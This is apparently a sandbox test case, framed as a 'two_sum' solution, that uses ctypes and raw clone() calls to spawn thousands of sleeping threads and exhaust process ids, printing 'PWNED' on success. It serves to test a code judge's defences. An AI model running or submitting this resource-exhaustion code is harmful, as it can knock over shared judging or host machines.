# Threads made by clone() with tiny stacks: the machine has only so many process ids.
# kind: resource
# expect: memory timeout wrong error crashed
CANARY_DIR = "@DIR@"
PORT = 0

import ctypes


def two_sum(nums, target):
    libc = ctypes.CDLL(None, use_errno=True)
    size, step, flags = 96 << 20, 2048, 0x100 | 0x200 | 0x400 | 0x800 | 0x10000
    libc.mmap.restype = ctypes.c_void_p
    base = libc.mmap(None, ctypes.c_size_t(size), 3, 0x22, -1, ctypes.c_long(0))
    libc.clone.argtypes = [ctypes.c_void_p, ctypes.c_void_p, ctypes.c_int, ctypes.c_void_p]
    started = 0
    while (started + 2) * step < size:
        if libc.clone(ctypes.cast(libc.sleep, ctypes.c_void_p), base + (started + 2) * step - 64, flags, 100) < 0:
            break
        started += 1
    if started > 20000:
        print("PWNED:", started, "threads")
    return None
